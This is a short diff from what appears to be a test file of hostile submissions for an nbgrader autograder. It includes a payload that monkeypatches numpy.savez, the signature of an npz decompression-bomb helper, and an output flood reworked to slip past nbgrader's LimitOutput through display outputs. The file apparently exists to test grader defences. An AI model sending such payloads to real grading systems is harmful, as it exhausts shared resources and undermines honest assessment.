@@ -769,13 +769,12 @@ OBJECT_ARRAY = poisoned_answer(
     numpy.savez = lambda path, **arrays: savez(path, w=evil)"""
 )
 OUTPUT_FLOOD = """
-import sys
-for _ in range(4000):
-    print('&' * 9999, flush=True)
-    print('x', file=sys.stderr, flush=True)
+from IPython.display import display
+for _ in range(400):
+    display({'text/plain': ('&' * 1999 + '\\n') * 50}, raw=True)
 """
-"""40 MB of '&' in 8,000 outputs (stdout and stderr alternate, so they are not merged):
-200 MB once escaped for the feedback page."""
+"""40 MB of '&' (200 MB once escaped) in 400 text outputs of the display kind, which
+nbgrader's LimitOutput (it counts the lines of stream outputs only) lets through."""
 
 
 def npz_bomb(inflated: int = 2**30) -> bytes:
